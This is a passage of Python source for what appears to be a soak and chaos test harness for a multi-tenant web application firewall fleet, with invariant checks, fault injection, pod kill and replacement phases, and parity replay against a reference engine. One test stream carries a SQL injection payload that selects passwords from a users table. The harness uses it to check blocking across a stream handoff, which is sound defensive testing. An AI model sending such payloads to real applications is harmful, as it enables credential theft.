    After each phase quiesces: admitted == resolved (zero unresolved
    futures), audit events exactly-once (one per inspect attempt + one
    per stream-begin attempt, across all registered pipelines), zero
    open streams and zero open trace contexts, breaker state legality,
    and monotone counters phase-over-phase."""

    _BREAKER_STATES = (CircuitBreaker.CLOSED, CircuitBreaker.HALF_OPEN,
                       CircuitBreaker.OPEN)

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._batchers: dict[str, MicroBatcher] = {}
        self._pipelines: dict = {}
        self._prev: dict[str, dict] = {}
        self._prev_breaker: dict[str, dict] = {}
        self.attempts = {"inspect": 0, "stream_begin": 0}
        self.violations: list[str] = []
        self.checks = 0

    def register(self, label: str, batcher: MicroBatcher) -> None:
        with self._lock:
            self._batchers[label] = batcher

    def register_pipeline(self, label: str, pipeline) -> None:
        """Track a non-batcher AuditEventPipeline (the fleet router's
        own: orphan resolutions, whole-fleet-degraded sheds) in the
        exactly-once ledger."""
        with self._lock:
            self._pipelines[label] = pipeline

    def batchers(self) -> dict:
        with self._lock:
            return dict(self._batchers)

    def pipelines(self) -> dict:
        with self._lock:
            return dict(self._pipelines)

    def note(self, kind: str) -> None:
        with self._lock:
            self.attempts[kind] += 1

    def _flat_counters(self, snap: dict) -> dict:
        return {k: v for k, v in snap.items()
                if k.endswith("_total") and isinstance(v, int)}

    def check_phase(self, phase: str) -> list[str]:
        """Run every invariant; returns (and records) the violations."""
        bad: list[str] = []
        with self._lock:
            batchers = dict(self._batchers)
            pipelines = dict(self._pipelines)
            expected_events = (self.attempts["inspect"]
                               + self.attempts["stream_begin"])
        unresolved = open_streams = open_traces = 0
        emitted = sum(p.stats()["emitted_total"]
                      for p in pipelines.values())
        for label, b in batchers.items():
            snap = b.metrics.snapshot()
            unresolved += b.metrics.unresolved()
            emitted += b.events.stats()["emitted_total"]
            open_streams += b.streams.open_count()
            open_traces += b.recorder.stats().get("open_traces", 0)
            # breaker legality: known state, trip/recovery counters sane
            brk = b.breaker.snapshot()
            if brk["state"] not in self._BREAKER_STATES:
                bad.append(f"{phase}/{label}: illegal breaker state "
                           f"{brk['state']!r}")
            if brk["recoveries_total"] > brk["open_total"]:
                bad.append(f"{phase}/{label}: breaker recovered "
                           f"{brk['recoveries_total']}x but only opened "
                           f"{brk['open_total']}x")
            prev_brk = self._prev_breaker.get(label)
            if prev_brk is not None:
                for k in ("open_total", "probe_total",
                          "recoveries_total"):
                    if brk[k] < prev_brk[k]:
                        bad.append(f"{phase}/{label}: breaker counter "
                                   f"{k} went backwards")
            self._prev_breaker[label] = brk
            # counter monotonicity across phases
            flat = self._flat_counters(snap)
            prev = self._prev.get(label)
            if prev is not None:
                for k, v in flat.items():
                    if k in prev and v < prev[k]:
                        bad.append(f"{phase}/{label}: counter {k} went "
                                   f"backwards ({prev[k]} -> {v})")
            self._prev[label] = flat
        if unresolved:
            bad.append(f"{phase}: {unresolved} admitted request(s) "
                       f"unresolved after quiesce")
        if emitted != expected_events:
            bad.append(f"{phase}: audit events not exactly-once — "
                       f"{emitted} emitted vs {expected_events} "
                       f"terminalized requests/streams")
        if open_streams:
            bad.append(f"{phase}: {open_streams} stream(s) leaked open")
        if open_traces:
            bad.append(f"{phase}: {open_traces} trace context(s) leaked")
        with self._lock:
            self.violations.extend(bad)
            self.checks += 1
        return bad


class DifferentialReservoir:
    """Seeded reservoir sample of admitted (request, device verdict)
    pairs, replayed through ReferenceWaf at soak end for bit-exact
    parity. Failure-policy verdicts (status 503 by construction — soak
    rulesets only deny with 403) are load-shed outcomes, not rule
    verdicts, and are skipped."""

    def __init__(self, capacity: int | None = None,
                 seed: int = 7) -> None:
        import random
        if capacity is None:
            capacity = envcfg.get_int("WAF_SOAK_RESERVOIR")
        self.capacity = max(1, capacity)
        self.rng = random.Random(f"soak-reservoir:{seed}")
        self._lock = threading.Lock()
        self._seen = 0
        self.samples: list[tuple] = []

    def offer(self, tenant: str, request: HttpRequest, verdict) -> None:
        if verdict is None or verdict.status == 503:
            return  # shed/policy outcome: nothing to replay
        with self._lock:
            self._seen += 1
            if len(self.samples) < self.capacity:
                self.samples.append((tenant, request, verdict))
            else:
                j = self.rng.randrange(self._seen)
                if j < self.capacity:
                    self.samples[j] = (tenant, request, verdict)

    def replay(self, refs: dict) -> dict:
        """Replay every sample through the tenant's ReferenceWaf and
        compare (allowed, status, rule_id) bit-exactly."""
        mismatches = []
        with self._lock:
            samples = list(self.samples)
        for tenant, request, got in samples:
            want = refs[tenant].inspect(request)
            if (got.allowed, got.status, got.rule_id) != (
                    want.allowed, want.status, want.rule_id):
                mismatches.append({
                    "tenant": tenant, "uri": request.uri,
                    "got": [got.allowed, got.status, got.rule_id],
                    "want": [want.allowed, want.status, want.rule_id]})
        return {"samples": len(samples), "mismatches": len(mismatches),
                "detail": mismatches[:5]}


class SoakRunner:
    """Drives one full soak: build tenants on a real engine + batcher,
    run the chaos schedule with worker threads, check invariants after
    every phase, and (in the drain phase) prove the zero-loss drain by
    handing exported stream state to a successor stack."""

    def __init__(self, engine_kind: str = "single",
                 n_requests: int | None = None,
                 seed: int | None = None,
                 duration_s: float | None = None,
                 n_tenants: int = 3, workers: int = 4,
                 dp: int = 2,
                 schedule: "ChaosSchedule | None" = None) -> None:
        if seed is None:
            seed = envcfg.get_int("WAF_SOAK_SEED")
        if n_requests is None:
            n_requests = max(24, envcfg.get_int("WAF_SOAK_REQUESTS"))
        if duration_s is None:
            duration_s = envcfg.get_float("WAF_SOAK_DURATION_S")
        self.engine_kind = engine_kind
        self.seed = seed
        self.n_requests = n_requests
        self.duration_s = max(0.0, duration_s)
        self.workers = max(1, workers)
        self.dp = dp
        self.tenant_keys = [f"soak/t{i}" for i in range(n_tenants)]
        self.texts = {k: build_soak_ruleset(i)
                      for i, k in enumerate(self.tenant_keys)}
        self.refs = {k: ReferenceWaf.from_text(t)
                     for k, t in self.texts.items()}
        self.fault = FaultInjector(seed=seed)
        self.schedule = schedule or ChaosSchedule.default(n_requests)
        self.monitor = InvariantMonitor()
        self.reservoir = DifferentialReservoir(seed=seed)
        self.traffic = SyntheticTraffic(self.tenant_keys, seed=seed)
        # successful set_tenant calls in order: the successor replays
        # this log so its reload/placement epochs match the exported
        # stream stamps (a fresh engine with a different reload history
        # would — correctly — refuse the import)
        self._set_log: list[tuple[str, str]] = []
        self._reloads = 0
        self._deadline: float | None = None

    # -- stack construction ------------------------------------------------
    def _new_engine(self, fault: "FaultInjector | None"):
        if self.engine_kind == "sharded":
            from ..parallel.sharded_engine import ShardedEngine
            return ShardedEngine(n_devices=self.dp, rp=1,
                                 fault_injector=fault)
        from ..runtime.multitenant import MultiTenantEngine
        return MultiTenantEngine(fault_injector=fault)

    def _new_batcher(self, engine) -> MicroBatcher:
        b = MicroBatcher(engine, max_batch_size=32,
                         max_batch_delay_us=300,
                         configured=set(self.tenant_keys),
                         metrics=Metrics())
        b.start()
        return b

    def _load_tenants(self, engine, log_calls: bool) -> None:
        for key in self.tenant_keys:
            engine.set_tenant(key, ruleset_text=self.texts[key])
            if log_calls:
                self._set_log.append((key, self.texts[key]))

    def _replay_engine(self):
        """Successor engine with the predecessor's exact set_tenant
        history, so stream-state epoch/version stamps line up."""
        engine = self._new_engine(None)
        for key, text in self._set_log:
            engine.set_tenant(key, ruleset_text=text)
        return engine

    # -- mid-soak lifecycle events ----------------------------------------
    def _hot_reload(self, engine) -> bool:
        """Semantically-neutral reload (comment-only change): the
        version hash and reload epoch advance, rule behavior does not —
        so differential parity holds across the swap while every open
        carry goes stale (and degrades to buffer-only)."""
        self._reloads += 1
        key = self.tenant_keys[self._reloads % len(self.tenant_keys)]
        text = self.texts[key] + f"\n# soak reload {self._reloads}"
        try:
            engine.set_tenant(key, ruleset_text=text)
        except Exception:
            return False  # injected compile failure: old version serves
        self.texts[key] = text
        self._set_log.append((key, text))
        return True

    def _autotune_swap(self, batcher: MicroBatcher) -> dict:
        """One closed-loop autotune round against the live profiler —
        swap or no-op, the invariants must hold either way."""
        try:
            from ..autotune import AutoTuner
            tuner = AutoTuner(batcher.engine, batcher.profiler)
            out = tuner.run_once()
            return {"ran": True,
                    "applied": bool(out.get("applied",
                                            out.get("swapped", False)))}
        except Exception as e:
            return {"ran": False, "error": type(e).__name__}

    # -- driving -----------------------------------------------------------
    def _over_budget(self) -> bool:
        return (self._deadline is not None
                and time.monotonic() > self._deadline)

    def _drive_item(self, batcher: MicroBatcher, item: dict):
        if item["kind"] == "buffered":
            self.monitor.note("inspect")
            v = batcher.inspect(item["tenant"], item["request"],
                                timeout=30.0)
            self.reservoir.offer(item["tenant"], item["request"], v)
            return v
        self.monitor.note("stream_begin")
        sid, v = batcher.stream_begin(item["tenant"], item["request"])
        if sid is None:
            return v
        try:
            for chunk in item["chunks"]:
                if batcher.stream_chunk(sid, chunk) is not None:
                    break  # early-blocked: remaining chunks are moot
            return batcher.stream_end(sid, timeout=30.0)
        except KeyError:
            return None  # TTL-expired mid-storm: its one event emitted

    def _drive(self, batcher: MicroBatcher, items: list[dict]) -> int:
        """Fan items over worker threads; returns how many were driven
        (the wall-time budget may truncate the tail)."""
        it = iter(items)
        lock = threading.Lock()
        driven = [0]
        errors: list[str] = []

        def worker() -> None:
            while True:
                if self._over_budget():
                    return
                with lock:
                    item = next(it, None)
                    if item is None:
                        return
                    driven[0] += 1
                try:
                    self._drive_item(batcher, item)
                except Exception as e:  # an invariant breach, not chaos
                    errors.append(f"{type(e).__name__}: {e}")
        threads = [threading.Thread(target=worker, daemon=True)
                   for _ in range(self.workers)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        if errors:
            self.monitor.violations.extend(
                f"driver error: {e}" for e in errors[:5])
        return driven[0]

    def _run_phase(self, batcher: MicroBatcher,
                   phase: SoakPhase) -> dict:
        t0 = time.monotonic()
        self.schedule.apply(self.fault, phase)
        items = [self.traffic.next_item() for _ in range(phase.requests)]
        half, rest = items[:len(items) // 2], items[len(items) // 2:]
        driven = self._drive(batcher, half)
        detail: dict = {}
        if phase.hot_reload:
            detail["hot_reload_ok"] = self._hot_reload(batcher.engine)
        if phase.autotune:
            detail["autotune"] = self._autotune_swap(batcher)
        driven += self._drive(batcher, rest)
        bad = self.monitor.check_phase(phase.name)
        return {"name": phase.name, "requests": driven,
                "seconds": round(time.monotonic() - t0, 3),
                "violations": bad, **detail}

    # -- the drain/re-import proof ----------------------------------------
    def _run_drain_phase(self, batcher: MicroBatcher,
                         phase: SoakPhase) -> tuple[dict, MicroBatcher]:
        """Recovery traffic, then drain mid-service with streams still
        open, hand the export to a fresh successor stack, finish the
        streams there and require bit-identical verdicts vs the
        reference on the full body."""
        t0 = time.monotonic()
        self.schedule.apply(self.fault, phase)  # recovery: rates -> 0
        items = [self.traffic.next_item() for _ in range(phase.requests)]
        stream_idx = [i for i, it in enumerate(items)
                      if it["kind"] == "stream"][:6]
        streams = [items[i] for i in stream_idx]
        rest = [it for i, it in enumerate(items) if i not in stream_idx]
        driven = self._drive(batcher, rest)
        # open streams and feed all but the final chunk: these are the
        # in-flight bodies the pod must not lose at SIGTERM
        held: list[dict] = []
        for item in streams:
            self.monitor.note("stream_begin")
            sid, _ = batcher.stream_begin(item["tenant"],
                                          item["request"])
            if sid is None:
                continue
            resolved = False
            for chunk in item["chunks"][:-1]:
                if batcher.stream_chunk(sid, chunk) is not None:
                    resolved = True  # early block: still exportable
                    break
            held.append({"sid": sid, "item": item,
                         "resolved": resolved})
        # short grace on purpose: the held streams CANNOT finish (their
        # final chunk is withheld), so the drain must hit the deadline,
        # export them, and still close its half of the ledger
        summary = batcher.drain(timeout_s=1.0)
        drained_health = batcher.health()
        # post-drain admission must reject with the failure policy
        self.monitor.note("inspect")
        post_v = batcher.inspect(self.tenant_keys[0],
                                 HttpRequest(method="GET", uri="/"),
                                 timeout=5.0)
        # -- successor stack: replayed epoch history, import, continue
        succ = self._new_batcher(self._replay_engine())
        self.monitor.register("successor", succ)
        n_imported = succ.import_streams(summary["exported"],
                                        strict=False)
        continuation_mismatches = 0
        for h in held:
            if h["resolved"]:
                continue
            try:
                for chunk in h["item"]["chunks"][-1:]:
                    succ.stream_chunk(h["sid"], chunk)
                v = succ.stream_end(h["sid"], timeout=30.0)
            except KeyError:
                continue  # refused import: failure-policy resolved
            full = dc_replace(h["item"]["request"],
                              body=h["item"]["body"])
            want = self.refs[h["item"]["tenant"]].inspect(full)
            if (v.allowed, v.status, v.rule_id) != (
                    want.allowed, want.status, want.rule_id):
                continuation_mismatches += 1
        # the successor also serves fresh traffic (it is a real pod)
        driven += self._drive(succ, [self.traffic.next_item()
                                     for _ in range(8)])
        bad = self.monitor.check_phase(phase.name)
        if drained_health != "shedding":
            bad.append(f"drain: health {drained_health!r} after drain "
                       f"(readyz would not flip)")
        if post_v.status != 503 and post_v.allowed is not True:
            bad.append("drain: post-drain submit got a non-policy "
                       f"verdict {post_v}")
        if continuation_mismatches:
            bad.append(f"drain: {continuation_mismatches} continued "
                       f"stream(s) diverged from the reference")
        self.monitor.violations.extend(
            b for b in bad if b not in self.monitor.violations)
        return ({"name": phase.name, "requests": driven,
                 "seconds": round(time.monotonic() - t0, 3),
                 "drain_seconds": round(summary["seconds"], 3),
                 "deadline_exceeded": summary["deadline_exceeded"],
                 "exported": summary["exported_streams"],
                 "imported": n_imported,
                 "held_streams": len(held),
                 "continuation_mismatches": continuation_mismatches,
                 "chips": summary["chips"],
                 "violations": bad}, succ)

    def run(self) -> dict:
        t0 = time.monotonic()
        if self.duration_s:
            self._deadline = t0 + self.duration_s
        engine = self._new_engine(self.fault)
        batcher = self._new_batcher(engine)
        self._load_tenants(engine, log_calls=True)
        self.monitor.register("predecessor", batcher)
        phases = []
        succ: "MicroBatcher | None" = None
        try:
            for phase in self.schedule.phases:
                if phase.drain:
                    detail, succ = self._run_drain_phase(batcher, phase)
                else:
                    detail = self._run_phase(batcher, phase)
                phases.append(detail)
        finally:
            batcher.stop()
            if succ is not None:
                succ.stop()
        diff = self.reservoir.replay(self.refs)
        self.monitor.check_phase("final")
        violations = list(dict.fromkeys(self.monitor.violations))
        snaps = {label: b.metrics.snapshot()
                 for label, b in self.monitor.batchers().items()}
        admitted = sum(s["requests_admitted_total"]
                       for s in snaps.values())
        resolved = sum(s["requests_resolved_total"]
                       for s in snaps.values())
        ok = (not violations and diff["mismatches"] == 0
              and admitted == resolved)
        return {
            "metric": "waf_soak",
            "engine": self.engine_kind,
            "seed": self.seed,
            "seconds": round(time.monotonic() - t0, 3),
            "phases": phases,
            "admitted": admitted,
            "resolved": resolved,
            "unresolved": max(0, admitted - resolved),
            "events_emitted": sum(
                b.events.stats()["emitted_total"]
                for b in self.monitor.batchers().values()),
            "events_expected": (self.monitor.attempts["inspect"]
                                + self.monitor.attempts["stream_begin"]),
            "streams_exported": sum(s["streams_exported_total"]
                                    for s in snaps.values()),
            "streams_imported": sum(s["streams_imported_total"]
                                    for s in snaps.values()),
            "diff": diff,
            "faults_fired": {k: v for k, v in self.fault.fired.items()
                             if v},
            "violations": violations,
            "ok": ok,
        }


def run_soak(engine_kind: str = "single", **kw) -> dict:
    """One-call entry for tools/waf_soak.py and the smoke tests."""
    return SoakRunner(engine_kind=engine_kind, **kw).run()


class FleetSoakRunner(SoakRunner):
    """Fleet-scope soak: K pods behind a ``FleetRouter``, driven through
    the router's verdict surface so the exactly-once ledger spans
    retries, failovers, router-synthesized orphan resolutions and
    whole-fleet-degraded sheds.

    Phases (by name, dispatched in :meth:`run`):

    - ``fleet-baseline`` — clean routing plus a semantically-neutral hot
      reload through ``router.set_tenant`` (every pod + the successor
      replay log advance together).
    - ``fleet-kill-storm`` — fault rates up, then one pod is crashed
      (``router.kill_pod``) while streams are provably pinned to it:
      its orphans must resolve with the failure policy and exactly one
      router event each; survivors' held streams finish bit-identical
      to the reference.
    - ``fleet-drain-storm`` — planned replacement mid-service
      (``router.replace_pod``): held mid-token streams export at the
      drain deadline, import into the successor, and their withheld
      final chunks must complete with verdicts bit-identical to the
      reference on the full body. The phase also respawns the slot the
      kill phase crashed (replacement of a DEAD pod == respawn).
    - ``fleet-wedge`` — a probe partition (``probe-timeout`` at 1.0)
      opens every pod breaker: traffic degrades to router-emitted
      policy 503s; healing the partition closes the breakers and the
      fleet recovers to full strength.

    The attempt ledger is fed by ``router.attempt_hook`` — one note per
    action guaranteed to produce exactly one audit event SOMEWHERE in
    the fleet (each pod-level dispatch, each hedge, each router shed) —
    so the fleet ``_drive_item`` must not note anything itself.
    """

    STORM_RATES = {
        "device-exception": 0.06,
        "device-slow": 0.1,
        "stream-scan-failure": 0.1,
        "cache-read-failure": 0.1,
        "cache-write-failure": 0.1,
        "pod-kill": 0.08,   # transient dispatch crashes -> connect retries
        "pod-wedge": 0.05,  # stalled dispatches (stall_s, then proceed)
    }

    def __init__(self, n_pods: int = 3, schedule: "ChaosSchedule | None"
                 = None, **kw) -> None:
        kw.setdefault("engine_kind", "fleet")
        super().__init__(schedule=schedule, **kw)
        self.n_pods = max(2, n_pods)
        if schedule is None:
            n = self.n_requests
            calm = max(8, int(n * 0.3))
            storm = max(8, int(n * 0.3))
            drain = max(8, int(n * 0.25))
            wedge = max(8, n - calm - storm - drain)
            self.schedule = ChaosSchedule([
                SoakPhase("fleet-baseline", calm, hot_reload=True),
                SoakPhase("fleet-kill-storm", storm,
                          rates=dict(self.STORM_RATES)),
                SoakPhase("fleet-drain-storm", drain,
                          rates={"device-slow": 0.1}, drain=True),
                SoakPhase("fleet-wedge", wedge,
                          rates={"probe-timeout": 1.0}),
            ])
        self.pool = None
        self.health = None
        self.router = None
        self._killed_slot: "int | None" = None

    # -- stack construction ------------------------------------------------
    def _build_fleet(self) -> None:
        from ..fleet import FleetRouter, HealthTracker, PodPool
        self.pool = PodPool(
            self.n_pods, lambda: self._new_engine(self.fault),
            failure_policy={k: "fail" for k in self.tenant_keys},
            configured=set(self.tenant_keys),
            batcher_kw=dict(max_batch_size=32, max_batch_delay_us=300))
        # probes are swept MANUALLY (probe_all) so breaker transitions
        # are deterministic; the huge interval parks the background loop
        self.health = HealthTracker(self.pool, probe_interval_s=3600.0,
                                    probe_timeout_s=0.5, fault=self.fault)
        self.router = FleetRouter(
            self.pool, health=self.health, retries=2,
            retry_backoff_ms=1.0, hedge_ms=0.0, fault=self.fault,
            seed=self.seed)
        self.router.attempt_hook = self.monitor.note
        self.router.start()
        for key in self.tenant_keys:
            self.router.set_tenant(key, self.texts[key])
        for pod in self.pool.pods:
            self.monitor.register(pod.pod_id, pod.batcher)
        self.monitor.register_pipeline("router", self.router.events)

    # -- driving (router surface, hook-fed ledger) --------------------------
    def _drive_item(self, router, item):
        if item["kind"] == "buffered":
            v = router.inspect(item["tenant"], item["request"],
                               timeout=60.0)
            self.reservoir.offer(item["tenant"], item["request"], v)
            return v
        sid, v = router.stream_begin(item["tenant"], item["request"])
        if sid is None:
            return v
        try:
            for chunk in item["chunks"]:
                if router.stream_chunk(sid, chunk) is not None:
                    break  # early-blocked: remaining chunks are moot
            return router.stream_end(sid, timeout=60.0)
        except KeyError:
            return None  # TTL-expired mid-storm: its one event emitted

    def _fleet_reload(self) -> bool:
        """Semantically-neutral reload through the router: the pool's
        replay log and every live pod advance together, so later strict
        drain-handoff imports still pass the staleness check."""
        self._reloads += 1
        key = self.tenant_keys[self._reloads % len(self.tenant_keys)]
        text = self.texts[key] + f"\n# fleet soak reload {self._reloads}"
        try:
            self.router.set_tenant(key, text)
        except Exception:
            return False
        self.texts[key] = text
        return True

    # -- held streams (the bodies a dying pod must not lose) ----------------
    def _hold_streams(self, k: int, extra: "list[dict] | None" = None
                      ) -> list[dict]:
        """Open up to ``k`` streams through the router and feed all but
        the final chunk. ``extra`` items are held first (crafted
        mid-token streams the drain proof aims at)."""
        held: list[dict] = []
        pending = list(extra or [])
        tries = 0
        while pending or (len(held) < k and tries < k * 8):
            if pending:
                item = pending.pop(0)
            else:
                tries += 1
                item = self.traffic.next_item()
                if item["kind"] != "stream" or len(item["chunks"]) < 2:
                    continue
            sid, _ = self.router.stream_begin(item["tenant"],
                                              item["request"])
            if sid is None:
                continue  # shed at begin: its pod event is out
            resolved = False
            for chunk in item["chunks"][:-1]:
                if self.router.stream_chunk(sid, chunk) is not None:
                    resolved = True  # early block: event already out
                    break
            held.append({"sid": sid, "item": item, "resolved": resolved,
                         "slot": self.router.stream_slot(sid),
                         "final": None})
        return held

    def _crafted_stream(self) -> dict:
        """A stream whose attack token is SPLIT by the withheld final
        chunk ('UNION SEL' + 'ECT ...'): continuing it bit-identically
        after a replacement proves the successor resumed the carried
        scan state, not a fresh one."""
        body = b"note=1 UNION SELECT password FROM users--&p=x"
        req = HttpRequest(
            method="POST", uri="/checkout",
            headers=[("Host", "soak.example.com"),
                     ("Content-Type",
                      "application/x-www-form-urlencoded")],
            body=b"")
        return {"kind": "stream", "tenant": self.tenant_keys[1],
                "request": req, "body": body,
                "chunks": [b"note=1 UNION", b" SEL",
                           b"ECT password FROM users--&p=x"]}

    def _finish_held(self, held: list[dict]) -> int:
        """Feed the withheld final chunks; returns how many finished
        real-verdict streams diverged from the reference on the full
        body. Policy-resolved streams (orphans of a killed pod) carry a
        503 and are shed outcomes, not parity subjects."""
        mismatches = 0
        for h in held:
            item = h["item"]
            try:
                self.router.stream_chunk(h["sid"], item["chunks"][-1])
                v = self.router.stream_end(h["sid"], timeout=60.0)
            except KeyError:
                continue  # TTL-expired: its one event emitted
            h["final"] = v
            if h["resolved"] or v is None or v.status == 503:
                continue
            full = dc_replace(item["request"], body=item["body"])
            want = self.refs[item["tenant"]].inspect(full)
            if (v.allowed, v.status, v.rule_id) != (
                    want.allowed, want.status, want.rule_id):
                mismatches += 1
        return mismatches

    # -- phases --------------------------------------------------------------
    def _run_fleet_phase(self, phase: SoakPhase) -> dict:
        t0 = time.monotonic()
        self.schedule.apply(self.fault, phase)
        items = [self.traffic.next_item() for _ in range(phase.requests)]
        half, rest = items[:len(items) // 2], items[len(items) // 2:]
        driven = self._drive(self.router, half)
        detail: dict = {}
        if phase.hot_reload:
            detail["hot_reload_ok"] = self._fleet_reload()
        driven += self._drive(self.router, rest)
        bad = self.monitor.check_phase(phase.name)
        return {"name": phase.name, "requests": driven,
                "seconds": round(time.monotonic() - t0, 3),
                "violations": bad, **detail}

    def _run_kill_phase(self, phase: SoakPhase) -> dict:
        """Unplanned loss mid-storm: crash the slot that provably holds
        open streams; its orphans resolve by policy with exactly one
        router event each, survivors' streams finish bit-identically."""
        t0 = time.monotonic()
        self.schedule.apply(self.fault, phase)
        items = [self.traffic.next_item() for _ in range(phase.requests)]
        half, rest = items[:len(items) // 2], items[len(items) // 2:]
        driven = self._drive(self.router, half)
        held = self._hold_streams(5)
        ev0 = self.router.events.stats()["emitted_total"]
        slots = sorted({h["slot"] for h in held if h["slot"] is not None})
        victim = slots[0] if slots else self.health.available()[0]
        kill_out = self.router.kill_pod(victim)
        self._killed_slot = victim
        driven += self._drive(self.router, rest)
        mismatches = self._finish_held(held)
        bad = self.monitor.check_phase(phase.name)
        orphans = [h for h in held
                   if h["slot"] == victim and not h["resolved"]]
        ev_delta = (self.router.events.stats()["emitted_total"] - ev0)
        if kill_out["orphans_resolved"] != len(orphans):
            bad.append(
                f"{phase.name}: kill resolved "
                f"{kill_out['orphans_resolved']} orphan(s), "
                f"{len(orphans)} stream(s) were pinned unresolved")
        for h in orphans:
            v = h["final"]
            if v is None or v.status != 503:
                bad.append(f"{phase.name}: orphaned stream {h['sid']} "
                           f"did not resolve by policy (got {v})")
        if ev_delta < len(orphans):
            bad.append(f"{phase.name}: {len(orphans)} orphan(s) but "
                       f"only {ev_delta} router event(s)")
        if mismatches:
            bad.append(f"{phase.name}: {mismatches} surviving "
                       f"stream(s) diverged from the reference")
        self.monitor.violations.extend(
            b for b in bad if b not in self.monitor.violations)
        return {"name": phase.name, "requests": driven,
                "seconds": round(time.monotonic() - t0, 3),
                "killed_slot": victim, "held_streams": len(held),
                "orphans_resolved": kill_out["orphans_resolved"],
                "continuation_mismatches": mismatches,
                "violations": bad}

    def _run_replace_phase(self, phase: SoakPhase) -> dict:
        """Planned zero-loss replacement mid-service: hold mid-token
        streams (one crafted so the withheld chunk SPLITS the attack
        token), replace their pod, and require the continuations to be
        bit-identical to the reference on the full body. Also respawns
        the slot the kill phase crashed."""
        t0 = time.monotonic()
        self.schedule.apply(self.fault, phase)
        items = [self.traffic.next_item() for _ in range(phase.requests)]
        half, rest = items[:len(items) // 2], items[len(items) // 2:]
        driven = self._drive(self.router, half)
        crafted_item = self._crafted_stream()
        held = self._hold_streams(4, extra=[crafted_item])
        crafted = next((h for h in held if h["item"] is crafted_item),
                       None)
        victim = next((h["slot"] for h in held if h["slot"] is not None),
                      self.health.available()[0])
        # short deadline on purpose: the held streams CANNOT finish
        # (their final chunk is withheld), so the drain must hit the
        # deadline, export them, and the import must still be clean
        out = self.router.replace_pod(victim, timeout_s=1.0, strict=True)
        succ = self.pool.pods[victim]
        self.monitor.register(succ.pod_id, succ.batcher)
        respawned = None
        if self._killed_slot is not None and self._killed_slot != victim:
            # replacing a DEAD slot == respawn (its re-drain exports
            # nothing); the fleet is back to full strength for the
            # wedge phase
            self.router.replace_pod(self._killed_slot, timeout_s=0.1,
                                    strict=True)
            re_pod = self.pool.pods[self._killed_slot]
            self.monitor.register(re_pod.pod_id, re_pod.batcher)
            respawned = self._killed_slot
            self._killed_slot = None
        driven += self._drive(self.router, rest)
        mismatches = self._finish_held(held)
        bad = self.monitor.check_phase(phase.name)
        pinned = [h for h in held
                  if h["slot"] == victim and not h["resolved"]]
        if out["imported"] < len(pinned):
            bad.append(f"{phase.name}: {len(pinned)} pinned stream(s) "
                       f"but only {out['imported']} imported")
        for h in pinned:
            v = h["final"]
            if v is None or v.status == 503:
                bad.append(f"{phase.name}: pinned stream {h['sid']} "
                           f"degraded to policy across a PLANNED "
                           f"replacement (got {v})")
        if crafted is not None and not crafted["resolved"]:
            v = crafted["final"]
            if v is None or v.allowed or v.status != 403:
                bad.append(f"{phase.name}: crafted mid-token stream did "
                           f"not block after the handoff (got {v})")
        if mismatches:
            bad.append(f"{phase.name}: {mismatches} continued stream(s) "
                       f"diverged from the reference")
        self.monitor.violations.extend(
            b for b in bad if b not in self.monitor.violations)
        return {"name": phase.name, "requests": driven,
                "seconds": round(time.monotonic() - t0, 3),
                "replaced_slot": victim, "respawned_slot": respawned,
                "held_streams": len(held), "exported": out["exported"],
                "imported": out["imported"], "refused": out["refused"],
                "deadline_exceeded": out["deadline_exceeded"],
                "continuation_mismatches": mismatches,
                "violations": bad}

    def _run_wedge_phase(self, phase: SoakPhase) -> dict:
        """Probe partition: every sweep fails, breakers trip OPEN, the
        healthy set empties and traffic degrades to router-shed policy
        503s; healing the partition closes the breakers on the next
        sweep (probe success short-circuits OPEN -> CLOSED)."""
        t0 = time.monotonic()
        self.schedule.apply(self.fault, phase)
        for _ in range(4):  # threshold is 3 consecutive failures
            self.health.probe_all()
        degraded_set = self.health.available()
        n_live = len(self.pool.live_pods())
        items = [self.traffic.next_item() for _ in range(phase.requests)]
        half, rest = items[:len(items) // 2], items[len(items) // 2:]
        driven = self._drive(self.router, half)
        # heal: rates to zero, one sweep recovers every live pod
        for kind in FAULT_KINDS:
            self.fault.set_rate(kind, 0.0)
        self.health.probe_all()
        recovered_set = self.health.available()
        driven += self._drive(self.router, rest)
        bad = self.monitor.check_phase(phase.name)
        if degraded_set:
            bad.append(f"{phase.name}: probe partition left slots "
                       f"{degraded_set} available (breakers not OPEN)")
        if len(recovered_set) != n_live:
            bad.append(f"{phase.name}: only {len(recovered_set)}/"
                       f"{n_live} slot(s) recovered after healing")
        self.monitor.violations.extend(
            b for b in bad if b not in self.monitor.violations)
        return {"name": phase.name, "requests": driven,
                "seconds": round(time.monotonic() - t0, 3),
                "degraded_slots": degraded_set,
                "recovered_slots": recovered_set,
                "violations": bad}

    # -- entry ----------------------------------------------------------------
    def run(self) -> dict:
        t0 = time.monotonic()
        if self.duration_s:
            self._deadline = t0 + self.duration_s
        self._build_fleet()
        phases = []
        try:
            for phase in self.schedule.phases:
                if "kill" in phase.name:
                    detail = self._run_kill_phase(phase)
                elif phase.drain or "drain" in phase.name:
                    detail = self._run_replace_phase(phase)
                elif "wedge" in phase.name:
                    detail = self._run_wedge_phase(phase)
                else:
                    detail = self._run_fleet_phase(phase)
                phases.append(detail)
        finally:
            self.router.stop()
        diff = self.reservoir.replay(self.refs)
        self.monitor.check_phase("final")
        # fleet breaker legality (pod-scope breakers live outside the
        # batchers the monitor already checks)
        for slot, brk in self.health.breaker_snapshots().items():
            if brk["state"] not in InvariantMonitor._BREAKER_STATES:
                self.monitor.violations.append(
                    f"fleet: slot {slot} illegal breaker state "
                    f"{brk['state']!r}")
            if brk["recoveries_total"] > brk["open_total"]:
                self.monitor.violations.append(
                    f"fleet: slot {slot} breaker recovered "
                    f"{brk['recoveries_total']}x but only opened "
                    f"{brk['open_total']}x")
        violations = list(dict.fromkeys(self.monitor.violations))
        snaps = {label: b.metrics.snapshot()
                 for label, b in self.monitor.batchers().items()}
        admitted = sum(s["requests_admitted_total"]
                       for s in snaps.values())
        resolved = sum(s["requests_resolved_total"]
                       for s in snaps.values())
        emitted = (sum(b.events.stats()["emitted_total"]
                       for b in self.monitor.batchers().values())
                   + sum(p.stats()["emitted_total"]
                         for p in self.monitor.pipelines().values()))
        ok = (not violations and diff["mismatches"] == 0
              and admitted == resolved)
        rsnap = self.router.snapshot()
        fm = self.router.metrics.snapshot()
        return {
            "metric": "waf_fleet_soak",
            "engine": self.engine_kind,
            "pods": self.n_pods,
            "seed": self.seed,
            "seconds": round(time.monotonic() - t0, 3),
            "phases": phases,
            "admitted": admitted,
            "resolved": resolved,
